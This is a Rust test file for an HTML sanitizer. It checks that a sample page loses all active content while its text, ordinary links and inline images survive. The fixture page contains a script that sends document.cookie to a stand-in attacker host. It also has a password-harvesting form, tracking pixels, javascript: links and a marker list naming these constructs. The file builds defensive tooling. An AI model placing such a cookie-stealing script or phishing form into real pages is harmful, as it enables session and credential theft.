//! HTML: a page with every kind of active content comes back as a static page that Python's
//! HTML parser finds no script, handler, frame, form or `javascript:` link in, and that
//! LibreOffice still converts.

use std::collections::BTreeMap;
use std::process::Command;

use palisade_model::{CdrAction, CdrPolicy, SanitizationResult};

use crate::ooxml::libreoffice_pages;
use crate::sanitize;

const PAGE: &str = r#"<!DOCTYPE html>
<html><head><title>Quarterly &amp; report</title>
<meta name="author" content="secret_author">
<meta http-equiv="refresh" content="0; url=https://evil.example/next">
<link rel="stylesheet" href="https://evil.example/style.css">
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script>
<style>body { background: url(https://evil.example/track.png) }</style>
</head>
<body onload="steal()">
<!-- secret_comment -->
<h1 style="color: red; background-image: url(https://evil.example/bg.png)">Hello HTML</h1>
<p>Kept <b>text</b> and a <a href="https://example.com/">link</a>.</p>
<p><a href="javascript:steal()">click</a> <a href="data:application/octet-stream;base64,TVpQ">file</a></p>
<img src="https://evil.example/pixel.gif" alt="tracker">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/applet.swf"></object>
<embed src="https://evil.example/movie.swf">
<form action="https://evil.example/phish"><input name="password"></form>
<div onclick="steal()" data-x="1">Click area</div>
</body></html>"#;

const MARKERS: [&str; 10] = [
    "<script",
    "onload",
    "onclick",
    "javascript:",
    "evil.example",
    "secret_author",
    "secret_comment",
    "application/octet-stream",
    "<iframe",
    "<form",
];

#[test]
fn a_page_comes_back_static_with_its_text_links_and_inline_pictures() {
    let run = sanitize("page.html", PAGE.as_bytes(), CdrPolicy::default());
    let details = run.details();
    assert_eq!(
        details.result,
        SanitizationResult::Sanitized,
        "{details:#?}"
    );
    let counts: BTreeMap<&str, u64> = details
        .details
        .iter()
        .filter(|item| item.action == CdrAction::Removed)
        .map(|item| (item.object_name.as_str(), item.count))
        .collect();
    let expected: BTreeMap<&str, u64> = [
        ("JavaScript", 4),
        ("External reference", 5),
        ("Metadata", 2),
        ("Embedded file", 1),
        ("Multimedia content", 2),
        ("Form submission action", 1),
        ("Foreign content", 3),
    ]
    .into_iter()
    .collect();
    assert_eq!(counts, expected, "{details:#?}");

    let copy = String::from_utf8(run.output().to_vec()).unwrap();
    for marker in MARKERS {
        assert!(!copy.contains(marker), "{marker} is left: {copy}");
    }
    for kept in [
        "Hello HTML",
        "Kept <b>text</b>",
        "https://example.com/",
        "data:image/png",
        "<title>Quarterly &amp; report</title>",
        "color:red",
    ] {
        assert!(copy.contains(kept), "{kept} stays: {copy}");
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("page.html");
    std::fs::write(&file, &copy).unwrap();
    let found = Command::new("python3")
        .args([
            "-c",
            "import sys\nfrom html.parser import HTMLParser\n\
             bad = []\n\
             class P(HTMLParser):\n\
             \x20   def handle_starttag(self, tag, attrs):\n\
             \x20       if tag in ('script', 'iframe', 'object', 'embed', 'form', 'link', 'style'):\n\
             \x20           bad.append(tag)\n\
             \x20       for k, v in attrs:\n\
             \x20           if k.startswith('on') or (v or '').strip().lower().startswith('javascript:'):\n\
             \x20               bad.append(k)\n\
             P().feed(open(sys.argv[1]).read())\n\
             print(bad)",
        ])
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&found.stdout).trim(), "[]");
    assert!(libreoffice_pages(std::slice::from_ref(&file))[0] >= 1);

    let again = sanitize("page.html", copy.as_bytes(), CdrPolicy::default());
    assert!(
        again
            .details()
            .details
            .iter()
            .all(|item| item.action != CdrAction::Removed),
        "{:?}",
        again.details()
    );
    assert_eq!(again.output(), copy.as_bytes(), "a copy rebuilds to itself");
    let twice = sanitize("page.html", PAGE.as_bytes(), CdrPolicy::default());
    assert_eq!(twice.output(), copy.as_bytes());
}
